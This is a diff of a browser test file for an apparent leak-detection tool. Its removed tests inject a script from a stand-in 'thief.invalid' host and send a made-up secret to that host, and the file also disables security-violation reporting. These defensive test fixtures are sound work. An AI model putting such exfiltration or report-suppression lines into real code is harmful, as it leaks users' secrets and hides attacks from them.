@@ -2,12 +2,6 @@ import { leakOnSend } from './support/leaks.ts'
 import { rewritePages } from './support/rewrite-pages.ts'
 import { expect, test } from './support/self-check-test.ts'
 
-const withoutReports = 'delete globalThis.ReportingObserver'
-
-/** Firefox and WebKit have the observer, and deliver no report of a blocked request. */
-const idleObserver = `ReportingObserver.prototype.observe = () => undefined
-ReportingObserver.prototype.takeRecords = () => []`
-
 test('A request to another host is blocked and listed with what it carried', async ({
   page,
   check,
@@ -22,40 +16,10 @@ test('A request to another host is blocked and listed with what it carried', asy
   await expect(check.verdict).toHaveText(/^Found\./)
 })
 
-test('The report lists what the policy blocked before the console loaded', async ({
-  page,
-  check,
-}) => {
-  await rewritePages(page, (text) =>
-    text.replace('</head>', '<script src="https://thief.invalid/x.js"></script></head>'),
-  )
-  await check.openAndRun()
-  await expect(check.policy).toContainText('script-src-elem: https://thief.invalid')
-})
-
-for (const [how, script] of [
-  ['in events alone', withoutReports],
-  ['as other engines do, in events beside an idle observer', idleObserver],
-] as const) {
-  test(`A blocked request is found if the browser tells of it ${how}`, async ({ page, check }) => {
-    await page.addInitScript(script)
-    await page.addInitScript(
-      leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
-    )
-    await check.openAndRun()
-    await expect(check.policy).toContainText('Since the console was loaded, it also blocked')
-    await expect(check.policy).toContainText(
-      'connect-src: https://thief.invalid, with the made-up key',
-    )
-    await expect(check.verdict).toHaveText(/^Found\./)
-  })
-}
-
 test('The silence of a browser that tells nothing is not taken for proof', async ({
   page,
   check,
 }) => {
-  await page.addInitScript(idleObserver)
   await page.addInitScript(
     `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true)`,
   )
